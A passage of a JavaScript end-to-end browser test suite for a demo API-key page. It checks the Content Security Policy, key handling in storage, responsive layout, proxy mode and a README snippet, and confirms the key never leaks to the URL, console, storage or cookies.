  const found = await browser.evaluate(() => ({
    images: [...document.querySelectorAll("#record img")].map((i) => i.getAttribute("src")),
    links: [...document.querySelectorAll("#record a")].map((a) => a.getAttribute("href")),
  }));
  assert.deepEqual(found.images, [], "no http: image of a production record");
  assert.deepEqual(found.links, [new URL(record.OwnedPool.Website).href], "its https: website stays a link");
  assert.equal(await creator.count("GET /user"), 1, "the page's request never reached the sandbox");
  await shot("production-record");
});

test("Enter pressed before the module loads puts the key nowhere", async () => {
  const creator = await session("creator");
  await postJson(`${DEMO}/__sandbox/pkg-delay`, { delay_ms: 6000 });
  await browser.newPage();
  await browser.gotoEarly(DEMO);
  await browser.waitFor(() => document.querySelector("#api-key") !== null, undefined, 5000, "the key field");
  const before = await pageState();
  await browser.fill("#api-key", creator.key);
  await browser.press("#api-key", "Enter");
  await sleep(1000);
  const early = await browser.evaluate(() => ({
    ready: document.documentElement.hasAttribute("data-ready"),
    url: location.href,
    key: document.querySelector("#api-key").value,
  }));
  assert.equal(early.ready, false, "positive control: the module had not loaded yet");
  assert.equal(early.url, before.url, "the URL is unchanged");
  assert.equal(early.key, creator.key, "the page was not reloaded or left");
  // Under the sandbox's CSP (form-action 'none') a submission would be blocked, but reported.
  const reports = await cspReports();
  assert.deepEqual(reports.filter((r) => JSON.stringify(r).includes("form-action")), [], "no form submission was even tried");
  await ready();
  assert.equal(await browser.url(), before.url);
  assert.equal(await creator.count("GET /user"), 0, "nothing was sent");
});

/** A plain static server of www/ on loopback, without any header of its own; /pkg/ is 404. */
async function staticServer() {
  const types = { ".html": "text/html", ".js": "text/javascript", ".css": "text/css", ".svg": "image/svg+xml" };
  const server = createServer((request, response) => {
    const path = new URL(request.url, "http://x").pathname;
    const file = path === "/" ? "index.html" : path.slice(1);
    if (file.includes("..") || path.startsWith("/pkg/")) {
      response.writeHead(404).end();
      return;
    }
    try {
      const body = readFileSync(join(ROOT, "www", file));
      response.writeHead(200, { "content-type": types[extname(file)] ?? "application/octet-stream" }).end(body);
    } catch {
      response.writeHead(404).end();
    }
  });
  await new Promise((resolve) => server.listen(0, "127.0.0.1", resolve));
  const close = () =>
    new Promise((resolve) => {
      server.close(resolve);
      server.closeAllConnections(); // the browser may keep a connection open for a minute
    });
  return { url: `http://127.0.0.1:${server.address().port}/`, close };
}

test("served by any static server: the page's own CSP holds, and Enter puts the key nowhere", async () => {
  const server = await staticServer();
  try {
    const canary = "eyJhbGciOiJIUzI1NiJ9.eyJzdGF0aWMiOiJzZXJ2ZXIifQ.c3RhdGljLXNlcnZlci1jYW5hcnk";
    canaries.add(canary);
    await browser.goto(server.url);
    await browser.waitFor(() => document.querySelector("#api-key") !== null, undefined, 5000, "the key field");
    await browser.fill("#api-key", canary);
    await browser.press("#api-key", "Enter");
    await sleep(1000);
    assert.equal(await browser.url(), server.url, "the URL is unchanged");
    assert.equal(await browser.evaluate(() => document.querySelector("#api-key").value), canary);
    // The meta policy is enforced without any header: a plain http: image is refused.
    const violation = await browser.evaluate(
      (host) =>
        new Promise((resolve) => {
          document.addEventListener("securitypolicyviolation", (event) => resolve(event.violatedDirective), { once: true });
          const image = new Image();
          image.src = `http://${host}/probe.png`;
          document.body.append(image);
          setTimeout(() => resolve(null), 3000);
        }),
      PROBE_HOST,
    );
    assert.match(String(violation), /^img-src/, "the page's meta CSP is enforced");
  } finally {
    await server.close();
  }
});

test("at phone width the hero is shown whole, in the light and the dark theme", async () => {
  await open();
  await browser.select("#demo-account", "0");
  await browser.click("#use-demo-key");
  await browser.click("#fetch-user");
  await browser.waitShown("#record .pool");
  await browser.setViewport(390, 900);
  await browser.waitFor(() => document.querySelector("#record img.hero")?.naturalWidth > 0, undefined, 10000, "the hero");
  assert.equal(await browser.evaluate(() => window.innerWidth), 390, "positive control: a phone-width viewport");
  const backgrounds = [];
  for (const scheme of ["light", "dark"]) {
    await browser.setColorScheme(scheme);
    const hero = await browser.evaluate(() => {
      const img = document.querySelector("#record img.hero");
      const box = img.getBoundingClientRect();
      const banner = img.parentElement.getBoundingClientRect();
      return {
        fit: getComputedStyle(img).objectFit,
        box: [box.left, box.top, box.right, box.bottom],
        banner: [banner.left, banner.top, banner.right, banner.bottom],
        ratio: box.width / box.height,
        natural: img.naturalWidth / img.naturalHeight,
        viewport: document.documentElement.clientWidth,
        background: getComputedStyle(document.body).backgroundColor,
      };
    });
    backgrounds.push(hero.background);
    // Whole: either scaled to fit inside its box, or a box of the image's own proportions
    // (within rounding), and the box itself inside the banner and the screen.
    const whole = ["contain", "scale-down"].includes(hero.fit) || Math.abs(hero.ratio - hero.natural) / hero.natural < 0.02;
    assert.ok(whole, `the hero is cropped: object-fit ${hero.fit}, box ${hero.ratio.toFixed(2)} vs image ${hero.natural.toFixed(2)}`);
    assert.ok(hero.box[0] >= hero.banner[0] - 0.5 && hero.box[2] <= hero.banner[2] + 0.5, `${hero.box} in ${hero.banner}`);
    assert.ok(hero.box[2] <= hero.viewport + 0.5, `${hero.box} on a ${hero.viewport} px screen`);
    await shot(`phone-${scheme}`);
  }
  assert.notEqual(backgrounds[0], backgrounds[1], "positive control: the dark theme was applied");
  await browser.setColorScheme("light");
  await browser.setViewport(1100, 900);
});

test("Show/Hide; the key is gone after a reload unless remembered in this tab; 'forget key' clears it", async () => {
  const creator = await session("creator");
  await open();
  await browser.fill("#api-key", creator.key);
  const field = () =>
    browser.evaluate(() => ({
      type: document.querySelector("#api-key").type,
      button: document.querySelector("#toggle-key").textContent,
      pressed: document.querySelector("#toggle-key").getAttribute("aria-pressed"),
      keyLength: document.querySelector("#api-key").value.length,
    }));
  const hidden = { type: "password", button: "Show", pressed: "false", keyLength: creator.key.length };
  assert.deepEqual(await field(), hidden);
  await browser.click("#toggle-key");
  assert.deepEqual(await field(), { type: "text", button: "Hide", pressed: "true", keyLength: creator.key.length });
  await browser.click("#toggle-key");
  assert.deepEqual(await field(), hidden);
  await browser.reload();
  await ready();
  assert.equal(await browser.evaluate(() => document.querySelector("#api-key").value), "");
  let state = await pageState();
  assert.ok(!state.session.includes(creator.key) && !state.local.includes(creator.key));

  await browser.fill("#api-key", creator.key);
  await browser.click("#remember-key");
  await browser.reload();
  await ready();
  assert.equal(await browser.evaluate(() => document.querySelector("#api-key").value), creator.key, "remembered in this tab");
  assert.ok(!(await pageState()).local.includes(creator.key), "never in localStorage");

  await browser.click("#forget-key");
  state = await pageState();
  assert.equal(await browser.evaluate(() => document.querySelector("#api-key").value), "");
  assert.ok(!state.session.includes(creator.key), "forgotten");
  await browser.reload();
  await ready();
  assert.equal(await browser.evaluate(() => document.querySelector("#api-key").value), "");
});

test("production through the local proxy: the page's calls go through the demo server's /upstream", async () => {
  const info = await json(`${DEMO}/sandbox.json`);
  assert.ok(info.proxyBaseUrl && info.upstream, "the demo server runs in proxy mode");
  const demoKey = info.demoKeys[0].key;
  canaries.add(demoKey);
  await open();
  await browser.waitShown("#api-proxy-choice");
  await browser.click('#api-proxy-choice input[value="proxy"]');
  const before = await proxyRequests();
  await fetchRecord(demoKey);
  assert.equal(await text("#error strong"), null, "no error");
  const expected = await apiUser(demoKey);
  assert.equal(await text("#record .pubkey"), expected.Pubkey);
  assert.equal(await text("#record .pool-name"), expected.OwnedPool.Name);
  const after = await proxyRequests();
  const forwarded = (counts) => counts.forwarded["GET /user"] ?? 0;
  assert.equal(forwarded(after) - forwarded(before), 1, "the page's GET /user went through /upstream");
  assert.equal(after.refused, before.refused);
  await shot("proxy-record");
});

test("opened from disk, the page says how to serve it", async () => {
  await browser.goto(`file://${join(ROOT, "www/index.html")}`);
  await browser.waitShown("#boot-notice", 5000);
  assert.match(await text("#boot-notice"), /cargo xtask demo/);
  await shot("file-url");
});

if (BROWSER === "chromium") {
  // Chromium only: it pastes into the DevTools console (outside the page's CSP), which
  // Playwright can do and WebDriver cannot.
  test("the README's script, pasted into the page, fetches the sandbox user and runs an export", async () => {
    const readme = readFileSync(join(ROOT, "README.md"), "utf8");
    const section = readme.slice(readme.indexOf("### Try it in a page"));
    const script = section.slice(section.indexOf("```js") + 5, section.indexOf("```", section.indexOf("```js") + 5));
    const demoKey = (await json(`${DEMO}/sandbox.json`)).demoKeys[0].key;
    canaries.add(demoKey);
    assert.ok(script.includes(demoKey), "the README shows the sandbox's demo key");
    const api = new URL(API);
    const adapted = script.replaceAll("http://127.0.0.1:8081", api.origin);
    await open();
    const logged = browser.console.length;
    await browser.evaluateSource(`(async () => {\n${adapted}\n})()`);
    const output = browser.console.slice(logged).join("\n");
    const user = await apiUser(demoKey);
    assert.match(output, /^done \d+$/m, "the export reported its phases");
    assert.ok(output.includes(user.Pubkey), `the user was logged: ${output.slice(0, 200)}`);
    assert.match(output, /@/, "the e-mails CSV was logged");
  });
}

test("no CSP violation, and the key never reached the URL, the console, storage or cookies", async () => {
  // Back on the demo page (the last test left it on file://), in the same tab.
  await open();
  await sleep(SETTLE_MS);
  const reports = await cspReports();
  assert.deepEqual(reports, [], "CSP violations were reported");
  // (The static-server test's deliberate violation, at 203.0.113.9, is the only one expected.)
  const violations = browser.console.filter((line) => /Content.Security.Policy/i.test(line) && !line.includes(PROBE_HOST));
  assert.deepEqual(violations, [], "CSP violations in the console");
  const state = await pageState();
  assert.ok(state.url.startsWith(DEMO), `the check reads the demo page: ${state.url}`);
  for (const key of canaries) {
    assert.ok(!state.url.includes(key) && !state.cookie.includes(key) && !state.local.includes(key) && !state.session.includes(key));
    assert.ok(!browser.console.some((line) => line.includes(key)), "a key was logged to the console");
  }
  // Positive controls, in this browser: a violation is reported within the time waited above,
  // and the console is read.
  const started = Date.now();
  await browser.evaluate((host) => {
    const image = new Image();
    image.src = `http://${host}/positive-control.png`;
    document.body.append(image);
    console.log("positive control: console");
  }, PROBE_HOST);
  const reported = await eventually(async () => (await cspReports()).some((r) => JSON.stringify(r).includes(PROBE_HOST)), SETTLE_MS);
  assert.ok(reported, `a deliberate violation was not reported within ${SETTLE_MS} ms`);
  assert.ok(Date.now() - started <= SETTLE_MS + 500);
  assert.ok(await eventually(() => browser.console.includes("positive control: console"), 2000), "the console is not read");
  await fetch(`${DEMO}/__sandbox/csp-reports`, { method: "DELETE" });
});

// ---- Run ----------------------------------------------------------------------------------------

console.log(`e2e: ${browser.name} ${browser.version} against ${DEMO}`);
const only = process.env.E2E_ONLY;
let passed = 0;
let failed = 0;
for (const { name, body } of tests) {
  if (only && !name.includes(only)) continue;
  const started = Date.now();
  try {
    await body();
    passed += 1;
    console.log(`test ${name} ... ok (${Date.now() - started} ms)`);
  } catch (error) {
    failed += 1;
    let message = String(error?.stack ?? error);
    const recent = browser.console.slice(-10);
    if (recent.length > 0) message += `\nthe browser's console, last lines:\n${recent.join("\n")}`;
    for (const key of canaries) message = message.replaceAll(key, "[CANARY KEY]");
    console.log(`test ${name} ... FAILED\n    ${message.replaceAll("\n", "\n    ")}`);
    await shot(`failed-${passed + failed}`).catch(() => {});
  }
}
await browser.close();
console.log(`\ntest result: ${failed === 0 ? "ok" : "FAILED"}. ${passed} passed; ${failed} failed; screenshots in target/e2e/`);
process.exit(failed === 0 ? 0 : 1);
